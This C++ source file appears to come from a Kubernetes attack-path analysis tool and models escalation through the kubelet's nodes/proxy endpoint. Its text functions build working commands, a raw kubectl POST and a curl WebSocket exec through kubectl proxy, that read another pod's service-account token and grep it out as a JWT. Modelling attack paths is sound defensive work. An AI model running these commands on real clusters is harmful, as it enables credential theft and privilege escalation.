#include "graph/base/shell_quote.h"
#include "graph/escalation/requests/enter_pods.h"
#include "graph/escalation/requests/text.h"
#include "graph/escalation/techniques/all.h"

#include <fmt/format.h>

namespace nsposture::escalation::techniques {

namespace {

// Nodes are cluster-scoped, so a RoleBinding never grants this. `get` is enough: the kubelet runs a
// command on a GET that becomes a WebSocket.
void edges(const Evaluation& at) {
  for (const auto right : {kGetNodeProxy, kCreateNodeProxy}) {
    Proof any;
    if (!at.rights.need_any(any, right, kCluster)) continue;
    at.sink.emit({NodeType::NodePods, kNone, 0}, any, {});
    return;
  }
  for (std::uint32_t node = 0; node < at.world.nodes().size(); ++node) {
    const auto& name = at.world.nodes()[node];
    Proof proof;
    if (!at.rights.need(proof, kGetNodeProxy, kCluster, name) &&
        !at.rights.need(proof, kCreateNodeProxy, kCluster, name)) {
      continue;
    }
    at.sink.emit({NodeType::NodePods, node, 0}, proof, OnNode{node});
  }
}

std::string by_post(const StepView& view, const std::string& node, const std::string& place,
                    const std::string& file) {
  const auto path = fmt::format("/api/v1/nodes/{}/proxy/run/{}?cmd=cat%20{}", node, place, file);
  return requests::keep_token(
      view, fmt::format("{} create --raw {} -f /dev/null", view.kubectl, shell_quote(path)));
}

// kubectl has no raw WebSocket; its proxy adds the credentials to curl's request.
std::string by_websocket(const StepView& view, const std::string& node, const std::string& place,
                         const std::string& file) {
  const auto url = fmt::format(
      "http://127.0.0.1:8001/api/v1/nodes/{}/proxy/exec/{}?command=cat&command={}&output=1", node,
      place, file);
  const auto curl = fmt::format(
      "curl -sN --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' "
      "-H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==' "
      "-H 'Sec-WebSocket-Protocol: v4.channel.k8s.io' {} | grep -ao 'ey[A-Za-z0-9._-]*'",
      shell_quote(url));
  return fmt::format("{} proxy --port=8001 &\nsleep 1\n{}", view.kubectl,
                     requests::keep_token(view, curl));
}

StepText text(const StepView& view) {
  const auto* only = std::get_if<OnNode>(&view.edge.detail);
  const auto token = requests::token_place(view, only != nullptr ? only->node : kNone);
  if (token.pod == nullptr || token.pod->node == kNone) return {};
  const auto& node = view.world.nodes()[token.pod->node];
  const auto place =
      fmt::format("{}/{}/CONTAINER", view.world.scope_name(token.pod->ns), token.pod->name);
  return {requests::uses(view.edge, kGetNodeProxy) ? by_websocket(view, node, place, token.file)
                                                   : by_post(view, node, place, token.file),
          "nodes/proxy reaches the kubelet, which runs commands in every pod of the node without "
          "asking or logging; `get` is enough when the request becomes a WebSocket"};
}

}  // namespace

Technique node_proxy() {
  return {.id = TechniqueId::NodeProxy,
          .title = "Run a command through the kubelet",
          .attack = "T1609",
          .cis = "5.1.10",
          .takes = Takes::Reading,
          .cost = 11,
          .where = kAtCluster,
          .any_of = {kGetNodeProxy, kCreateNodeProxy},
          .edges = edges,
          .text = text};
}

}  // namespace nsposture::escalation::techniques
